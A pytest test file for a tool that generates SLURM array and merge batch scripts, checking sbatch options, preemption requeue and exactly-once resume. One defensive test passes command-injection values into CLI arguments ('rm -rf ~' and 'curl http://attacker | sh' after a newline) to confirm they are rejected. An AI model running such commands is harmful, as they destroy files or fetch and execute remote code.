"""``eagle3-raw slurm`` (issue 16): the generated array and merge jobs, run by a real single-node
SLURM where its daemons are installed (Debian's slurmctld/slurmd), and always by a stand-in that
runs the same scripts with the variables SLURM sets (``SLURM_ARRAY_TASK_ID``, ...) and an
``scontrol`` that records the requeue. Each shard task launches its own server (the reference
server standing in for SGLang) through the launcher; a task stopped mid-run (SIGTERM to its batch
script, as preemption does, or SIGUSR1 before the time limit) flushes, requeues itself and, run
again, resumes exactly once; the merged set equals a single-process build.
"""

from __future__ import annotations

import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

import eagle3_raw
from eagle3_raw.cli import main
from eagle3_raw.journal import Journal
from tests.helpers import (
    generations,
    ledgers_in,
    processes_with,
    requested_rids,
    rid_row_id,
    sglang_section,
    write_prompts,
    write_recipe,
)  # fmt: skip
from tests.reference.wire import wait_until
from tests.support.pace import scaled
from tests.support.slurm import SlurmCluster, slurm_cluster  # noqa: F401  (the fixture)

_SHARDS = 2
_PROMPTS = 40


def _recipe(tmp_path: Path) -> Path:
    write_prompts(tmp_path, _PROMPTS)
    server = sglang_section(tmp_path / "ledgers", "--slots", "2", "--ms-per-token", "5", stop_timeout=5)
    return write_recipe(tmp_path, endpoints=[], server=server, sampling={"max_new_tokens": 48})


def _generate(tmp_path: Path, recipe: Path, *extra: str, env: dict[str, str] | None = None) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "eagle3_raw.cli", "slurm", str(recipe), "--shards", str(_SHARDS),
         "--journal-dir", str(tmp_path / "journals"), "--job-dir", str(tmp_path / "job"),
         "--cache-dir", str(tmp_path / "cache"), "--cpus-per-task", "1", *extra],
        capture_output=True, text=True, timeout=scaled(120), env=env,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    return done.stdout


def _kept_rows(tmp_path: Path) -> set[str]:
    (directory,) = (tmp_path / "journals" / "sets").iterdir()
    with Journal.read_dir(directory) as journal:
        return {row.id for row in journal.iter_rows()}


def _running(tmp_path: Path) -> bool:
    """Both tasks' servers are up, and shard 0 has rows (a stop now is a stop mid-run)."""
    ledgers = ledgers_in(tmp_path / "ledgers")
    return len(ledgers) == _SHARDS and min(len(generations(ledger)) for ledger in ledgers) >= 3


def _ports(logs: list[Path]) -> set[str]:
    return {
        m for log in logs for m in re.findall(r"starting the SGLang server: .* --port (\d+)", log.read_text())
    }


def _check(tmp_path: Path, recipe: Path, kept: set[str], restarted: Path, logs: list[Path]) -> None:
    """Exactly once across the stop, the merged set equal to a single build, no server left."""
    asked_again = {rid_row_id(rid) for rid in requested_rids(restarted)}
    assert kept and not kept & asked_again, sorted(kept & asked_again)[:5]
    ledgers = ledgers_in(tmp_path / "ledgers")
    assert len(ledgers) == _SHARDS + 1  # a server per task run: two, and the stopped one's rerun
    delivered = {rid_row_id(g["rid"]) for ledger in ledgers for g in generations(ledger)}
    ports = _ports(logs)
    assert len(ports) == _SHARDS + 1 and not any(processes_with("--port", port) for port in ports)
    built = eagle3_raw.load(str(recipe), cache_dir=str(tmp_path / "cache"), journal_dir=tmp_path / "journals")
    clean = eagle3_raw.load(str(recipe), cache_dir=str(tmp_path / "clean"), journal_dir=tmp_path / "clean-j")
    assert built["id"] == clean["id"] and built["input_ids"] == clean["input_ids"]
    assert built["loss_mask"] == clean["loss_mask"] and len(built) == _PROMPTS == len(delivered)


def test_the_scripts_say_what_slurm_must_do(tmp_path: Path) -> None:
    recipe = _recipe(tmp_path)
    shown = _generate(tmp_path, recipe, "--partition", "gpu", "--time", "24:00:00", "--gpus", "8",
                      "--parallel", "1", "--sbatch-arg=--account=abc", "--setup", "module load cuda",
                      "--push", "org/name", "--tag", "v1")  # fmt: skip
    shards, merge = (
        (tmp_path / "job" / "shards.sbatch").read_text(),
        (tmp_path / "job" / "merge.sbatch").read_text(),
    )
    for option in ("--array=0-1%1", "--requeue", "--signal=B:USR1@300", "--open-mode=append", "--gpus=8",
                   "--partition=gpu", "--time=24:00:00", "--account=abc", "%x-%A_%a.out"):  # fmt: skip
        assert f"#SBATCH {option}" in shards or option in shards, option
    assert "--shard auto" in shards and 'scontrol requeue "$task"' in shards and "module load cuda" in shards
    assert "#SBATCH --time=01:00:00" in merge and "--gpus" not in merge
    assert " merge " in merge and " push " in merge and "--repo org/name --tag v1" in merge
    assert "sbatch --dependency=afterok:" in shown


@pytest.mark.parametrize(
    "extra",
    [
        ["--partition", "gpu\nrm -rf ~"],
        ["--sbatch-arg=--account=abc\ncurl http://attacker | sh"],
        ["--time", "1:00:00\r"],
        ["--mem", "8G\x1b[2J"],
    ],
)
def test_a_value_with_a_control_character_never_becomes_a_shell_line(
    tmp_path: Path, extra: list[str]
) -> None:
    """Issue 22, finding 8: a newline in --partition or --sbatch-arg was a line of the sbatch script."""
    recipe = _recipe(tmp_path)
    argv = ["slurm", str(recipe), "--shards", "2", "--journal-dir", str(tmp_path / "j"),
            "--job-dir", str(tmp_path / "job"), *extra]  # fmt: skip
    assert main(argv) == 1
    assert not (tmp_path / "job" / "shards.sbatch").exists()


def test_the_job_scripts_under_a_stand_in_for_slurm(tmp_path: Path) -> None:
    """bash runs the scripts with the variables SLURM would set; ``scontrol`` records the requeue."""
    recipe = _recipe(tmp_path)
    _generate(tmp_path, recipe)
    tools = tmp_path / "bin"
    tools.mkdir()
    (tools / "scontrol").write_text(f'#!/bin/sh\necho "$@" >> {tmp_path / "scontrol.log"}\n')
    (tools / "scontrol").chmod(0o755)
    logs = [tmp_path / "job" / "logs" / f"task-{name}.out" for name in ("0", "1", "0-again")]

    def task(index: int, run: int, log: Path) -> subprocess.Popen[bytes]:
        variables = {
            "SLURM_ARRAY_JOB_ID": "100", "SLURM_ARRAY_TASK_ID": str(index), "SLURM_ARRAY_TASK_COUNT": "2",
            "SLURM_ARRAY_TASK_MIN": "0", "SLURM_ARRAY_TASK_MAX": "1", "SLURM_ARRAY_TASK_STEP": "1",
            "SLURM_JOB_ID": str(100 + index), "SLURM_RESTART_COUNT": str(run), "SLURM_NTASKS": "1",
            "SLURM_PROCID": "0", "PATH": f"{tools}:{os.environ['PATH']}",
        }  # fmt: skip
        script = str(tmp_path / "job" / "shards.sbatch")
        return subprocess.Popen(["bash", script], env={**os.environ, **variables}, stdout=log.open("wb"),
                                stderr=subprocess.STDOUT)  # fmt: skip

    first, other = task(0, 0, logs[0]), task(1, 0, logs[1])
    wait_until(lambda: _running(tmp_path), 90)
    first.send_signal(signal.SIGTERM)  # preemption: SIGTERM to the batch script
    assert first.wait(scaled(60)) == 130, logs[0].read_text()[-3000:]
    assert (tmp_path / "scontrol.log").read_text() == "requeue 100_0\n"
    kept, before = _kept_rows(tmp_path), set(ledgers_in(tmp_path / "ledgers"))
    assert other.wait(scaled(120)) == 0, logs[1].read_text()[-3000:]
    assert task(0, 1, logs[2]).wait(scaled(120)) == 0, logs[2].read_text()[-3000:]  # the requeued run
    (restarted,) = set(ledgers_in(tmp_path / "ledgers")) - before
    merge = subprocess.run(["bash", str(tmp_path / "job" / "merge.sbatch")], capture_output=True, text=True,
                           timeout=scaled(120))  # fmt: skip
    assert merge.returncode == 0 and f"rows              {_PROMPTS}" in merge.stdout, merge.stderr[-3000:]
    assert "starting the SGLang server" not in merge.stderr  # the merge starts no server
    _check(tmp_path, recipe, kept, restarted, logs)


@pytest.mark.timeout(480)
def test_the_array_and_merge_jobs_on_a_real_slurm(tmp_path: Path, slurm_cluster: SlurmCluster) -> None:  # noqa: F811
    recipe = _recipe(tmp_path)
    shown = _generate(tmp_path, recipe, "--submit", env=slurm_cluster.env)
    array, merge = re.search(r"array job (\d+), merge job (\d+)", shown).groups()  # type: ignore[union-attr]
    wait_until(lambda: _running(tmp_path), 120)
    stopped = 0
    slurm_cluster.run("scancel", "--batch", "--signal=USR1", f"{array}_{stopped}")  # the time limit is near
    wait_until(lambda: slurm_cluster.job_state(f"{array}_{stopped}") == "PENDING", 90)  # requeued
    kept, before = _kept_rows(tmp_path), set(ledgers_in(tmp_path / "ledgers"))
    deadline = time.monotonic() + 300
    while slurm_cluster.job_state(merge) not in ("COMPLETED", "FAILED", "CANCELLED", "TIMEOUT"):
        assert time.monotonic() < deadline, slurm_cluster.run("squeue", "-a") + slurm_cluster.logs()
        time.sleep(1)
    logs = sorted((tmp_path / "job" / "logs").glob("*"))
    text = "".join(f"--- {p.name}\n{p.read_text()}" for p in logs)
    assert slurm_cluster.job_state(merge) == "COMPLETED", text[-4000:]
    assert text.count("requeueing") == 1 and f"rows              {_PROMPTS}" in text
    (restarted,) = set(ledgers_in(tmp_path / "ledgers")) - before
    _check(tmp_path, recipe, kept, restarted, [p for p in logs if "merge" not in p.name])
